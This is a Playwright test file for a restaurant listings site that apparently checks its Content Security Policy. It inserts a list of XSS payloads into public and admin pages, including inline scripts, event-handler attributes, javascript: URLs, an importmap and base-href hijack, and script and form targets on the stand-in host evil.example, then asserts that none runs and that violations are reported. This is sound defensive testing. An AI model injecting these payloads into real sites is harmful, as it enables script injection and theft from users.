import { test } from '../support/admin.ts'
import { PLACE, POST, adminPaths } from '../support/guide.ts'
import { type Page, expect } from '../support/test.ts'
import { isFull, sized } from '#scripts/testing/level.ts'

const EVIL = 'https://evil.example'
const run = (name: string) => `document.documentElement.dataset.ran='${name}'`

/** Ways to run a script, or to lead the page's own astray, as text that got into a page unescaped. */
const ATTACKS = `
  <script>${run('inline')}</script>
  <script type="module">${run('module')}</script>
  <script src="${EVIL}/a.js"></script>
  <script src="data:text/javascript,${run('data')}"></script>
  <script type="importmap">{"imports":{"/_astro/":"${EVIL}/"}}</script>
  <img src="/no/such.png" alt="" onerror="${run('onerror')}">
  <svg onload="${run('svg')}"></svg>
  <details open ontoggle="${run('ontoggle')}"></details>
  <iframe src="javascript:parent.${run('frame')}"></iframe>
  <iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>
  <iframe src="${EVIL}/"></iframe>
  <object data="${EVIL}/a.swf"></object>
  <link rel="stylesheet" href="${EVIL}/a.css">
  <style>html { --ran: yes }</style>
  <base href="${EVIL}/">
  <a data-attack href="javascript:${run('link')}">here</a>
  <form action="${EVIL}/" method="post"><button data-attack>there</button></form>`

const BROKEN = [
  ...['script-src-elem', 'script-src-attr', 'style-src-elem', 'frame-src', 'object-src'],
  ...['base-uri', 'form-action'],
]

/** Each page has the attacks twice, as early as a title and as late as its text. */
async function inject(page: Page) {
  const reached: string[] = []
  await page.route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: run('evil') })
  })
  const { port } = new URL(page.url())
  await page.route(
    (url) => url.port === port,
    async (route) => {
      if (route.request().resourceType() !== 'document') return route.fallback()
      const response = await route.fetch()
      const html = await response.text()
      const body = html.replace('<title>', `${ATTACKS}<title>`).replace('</main>', `${ATTACKS}$&`)
      return route.fulfill({ response, body })
    },
  )
  return reached
}

async function expectSafe(page: Page, path: string, violations: string[]) {
  await page.goto(path)
  const seen = await page.evaluate(async () => {
    for (const link of document.querySelectorAll<HTMLElement>('[data-attack]')) link.click()
    // What a link does, it does in a turn of its own.
    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))
    const root = document.documentElement
    const style = getComputedStyle(root).getPropertyValue('--ran')
    return { ran: root.dataset.ran, style, base: new URL(document.baseURI).pathname }
  })
  expect(seen).toEqual({ ran: undefined, style: '', base: path })
  for (const directive of BROKEN) {
    await expect.poll(() => violations.join('\n'), path).toContain(`: ${directive} `)
  }
  // By now duplicate reports have arrived.
  await page.goto('about:blank')
  violations.splice(0)
}

const PAGES = sized(
  ['/', '/restaurants', PLACE, '/no/such'],
  [
    ...['/', '/restaurants', '/restaurants/2', '/towns', '/towns/bel-air', '/cuisines'],
    ...['/cuisines/pizza', PLACE, '/businesses', '/blog', '/blog/category/reviews', POST],
    ...['/claim-listing', '/no/such'],
  ],
)

test.beforeEach(() => test.slow(isFull))

test('@desktop no script that got into a page runs @quick', async ({ page, violations }) => {
  await page.goto('/404')
  const reached = await inject(page)
  for (const path of PAGES) await expectSafe(page, path, violations)
  expect(reached).toEqual([])
})

test('@desktop nor into a page of the administrator', async ({ page, violations }) => {
  await page.goto('/404')
  const reached = await inject(page)
  const paths = (await adminPaths()).filter((path) => path !== '/admin/login')
  for (const path of sized(['/admin', '/admin/post'], paths))
    await expectSafe(page, path, violations)
  expect(reached).toEqual([])
})
